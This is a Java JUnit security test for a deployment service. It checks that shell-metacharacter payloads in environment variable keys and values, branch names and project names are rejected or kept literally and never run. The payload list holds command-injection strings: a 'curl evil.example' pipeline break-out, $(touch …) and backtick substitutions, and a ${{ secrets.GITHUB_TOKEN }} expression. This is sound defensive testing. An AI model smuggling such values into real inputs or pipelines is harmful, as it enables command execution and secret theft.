package dev.autodeploy.e2e.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;

import tools.jackson.databind.JsonNode;

import dev.autodeploy.e2e.support.Accounts;
import dev.autodeploy.e2e.support.Api;
import dev.autodeploy.e2e.support.GitRepository;
import dev.autodeploy.e2e.support.Suite;

/**
 * Shell and pipeline metacharacters in user input are either refused (422/400) or stored and used literally: env
 * var values reach a locally deployed app as they were written and run nothing. The Jenkinsfile and workflow
 * generators' escaping is unit-tested in deployer-service (JenkinsPipelineGenerator / workflow tests).
 */
@Tag("security")
@ExtendWith(Suite.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InjectionTests {

    private final String marker = "/tmp/pwned-" + UUID.randomUUID();
    private final List<String> payloads = List.of("'; sh 'curl evil.example", "$(touch " + marker + ")",
            "`touch " + marker + "`", "a\nsh 'touch " + marker + "'", "${env.PATH}", "${{ secrets.GITHUB_TOKEN }}",
            "\"; touch " + marker + "; echo \"", "|| touch " + marker);

    private Api owner;
    private Accounts.Organization org;
    private GitRepository repository;
    private String projectId;

    @BeforeAll
    void project(Suite suite) {
        org = new Accounts(new SecurityTarget(suite).direct("auth-service")).organization("injection");
        owner = suite.api().as(org.owner());
        // the services learn of the organization from auth-service's events: not necessarily before the next call
        Accounts.awaitKnownEverywhere(suite.api(), org);
        repository = GitRepository.create("security-injection");
        repository.commit("an app that shows one variable", Map.of("package.json", """
                {"name": "echo", "version": "1.0.0", "private": true, "scripts": {"start": "node server.js"}}
                """, "server.js", """
                require('http').createServer((req, res) => res.end(process.env.INJECTED || ''))
                  .listen(Number(process.env.PORT), '127.0.0.1');
                """));
        JsonNode repo = owner.post("/api/v1/repositories", Map.of("organizationId", org.id(), "url", repository.url())).expect(201);
        JsonNode queued = owner.post("/api/v1/repositories/" + repo.get("id").asString() + "/analyze", Map.of()).json();
        String analysis = "/api/v1/repositories/" + repo.get("id").asString() + "/analyses/" + queued.get("id").asString();
        Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(300))
                .until(() -> owner.get(analysis).expect(200).path("status").asString(), "completed"::equals);
        projectId = owner.post("/api/v1/projects", Map.of("organizationId", org.id(), "repositoryId", repo.get("id").asString(),
                "name", "injection-" + UUID.randomUUID().toString().substring(0, 8))).expect(201).get("id").asString();
    }

    @AfterAll
    void cleanUp() {
        if (repository != null) {
            repository.close();
        }
    }

    @TestFactory
    Stream<DynamicTest> metacharactersInNamesKeysAndBranchesAreRefusedOrKeptLiterally() {
        String p = "/api/v1/projects/" + projectId;
        return payloads.stream().flatMap(payload -> Stream.of(
                DynamicTest.dynamicTest("env var key " + payload, () -> {
                    Api.Response response = owner.post(p + "/env", Map.of("key", payload, "value", "x"));
                    assertThat(response.status()).as("%s", response).isIn(400, 422);
                }),
                DynamicTest.dynamicTest("environment branch " + payload, () -> {
                    String name = "inj-" + UUID.randomUUID().toString().substring(0, 6);
                    Api.Response response = owner.post(p + "/environments", Map.of("name", name, "branch", payload, "target", "local"));
                    assertRefusedOrLiteral(response, "branch", payload);
                }),
                DynamicTest.dynamicTest("environment name " + payload, () -> {
                    Api.Response response = owner.post(p + "/environments", Map.of("name", payload, "target", "local"));
                    assertRefusedOrLiteral(response, "name", payload);
                }),
                DynamicTest.dynamicTest("project name " + payload, () -> {
                    Api.Response response = owner.put(p, Map.of("name", payload));
                    assertRefusedOrLiteral(response, "name", payload);
                })));
    }

    @Test
    void anEnvValueWithShellSubstitutionReachesTheAppLiterallyAndRunsNothing() throws Exception {
        String value = "$(touch " + marker + ") `touch " + marker + "` ${HOME} '\"; touch " + marker;
        owner.post("/api/v1/projects/" + projectId + "/env", Map.of("key", "INJECTED", "value", value, "secret", true)).expect(201);
        String deployment = owner.post("/api/v1/projects/" + projectId + "/deployments", Map.of("environment", "production"))
                .expect(201).get("id").asString();
        JsonNode ready = Awaitility.await().atMost(Duration.ofSeconds(90)).pollInterval(Duration.ofMillis(500))
                .until(() -> owner.get("/api/v1/deployments/" + deployment).expect(200),
                        d -> List.of("ready", "error", "cancelled").contains(d.path("status").asString()));
        assertThat(ready.path("status").asString()).as("%s", ready).isEqualTo("ready");
        try (HttpClient http = HttpClient.newHttpClient()) {
            String served = http.send(HttpRequest.newBuilder(URI.create(ready.path("url").asString())).build(),
                    HttpResponse.BodyHandlers.ofString()).body();
            assertThat(served).isEqualTo(value);
        }
        assertThat(Files.exists(Path.of(marker))).as("nothing ran the value as a command").isFalse();
    }

    private void assertRefusedOrLiteral(Api.Response response, String field, String payload) {
        assertThat(response.status()).as("%s", response).isIn(200, 201, 400, 409, 422);
        if (response.status() < 300) {
            assertThat(response.json().path(field).asString()).isEqualTo(payload);
        }
        assertThat(Files.exists(Path.of(marker))).isFalse();
    }
}
